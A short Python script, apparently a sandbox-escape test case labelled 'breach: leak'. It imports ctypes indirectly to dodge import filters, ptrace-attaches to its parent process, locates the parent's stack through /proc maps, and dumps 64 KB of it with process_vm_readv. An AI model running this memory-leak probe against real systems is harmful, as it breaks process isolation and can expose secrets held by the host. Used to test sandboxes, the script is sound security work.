# Ptrace / process_vm_readv on the host through ctypes.
# breach: leak
import os, typing
ctypes = typing.sys.modules.get("ctypes") or __import__("ctypes")
l = ctypes.CDLL(None, use_errno=True)
print(l.ptrace(16, os.getppid(), 0, 0))
buf = ctypes.create_string_buffer(65536)
class IOV(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]
m = [x for x in open('/proc/%d/maps' % os.getppid()) if 'stack' in x][0]
a, b = [int(v, 16) for v in m.split()[0].split('-')]
r = IOV(b - 65536, 65536); o = IOV(ctypes.addressof(buf), 65536)
print(l.process_vm_readv(os.getppid(), ctypes.byref(o), 1, ctypes.byref(r), 1, 0)); print(buf.raw)
